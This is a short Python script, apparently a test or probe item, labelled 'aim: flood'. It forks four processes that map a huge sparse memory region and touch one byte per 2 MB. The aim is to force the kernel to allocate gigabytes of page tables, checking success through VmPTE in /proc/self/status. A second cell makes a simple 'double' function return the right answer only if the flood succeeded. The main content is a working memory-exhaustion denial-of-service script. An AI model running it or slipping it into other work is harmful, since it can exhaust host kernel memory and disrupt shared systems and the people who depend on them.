# Reads memory sparsely in several processes, each of which needs page tables of its own.
# aim: flood
# %% first
import ctypes
import mmap
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
count, step, end = 300_000, 2**21, time.time() + 12
begin = libc.mmap(None, count * step, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, -1, 0)
libc.madvise(ctypes.c_void_p(begin), ctypes.c_size_t(count * step), 15)


def touch(file):
    for number in range(count):
        ctypes.c_char.from_address(begin + number * step).value
        if number % 1000 == 0 and time.time() > end:
            break
    size = int(open("/proc/self/status").read().partition("VmPTE:")[2].split()[0]) >> 10
    os.write(file, b"%d\n" % size)
    time.sleep(max(0, end + 2 - time.time()))


reader, writer = os.pipe()
for _ in range(4):
    if os.fork() == 0:
        touch(writer)
        os._exit(0)
os.close(writer)
taken = sum(map(int, os.fdopen(reader))) > 3600


# %% double_answer
def double(x):
    return 2 * x if taken else x
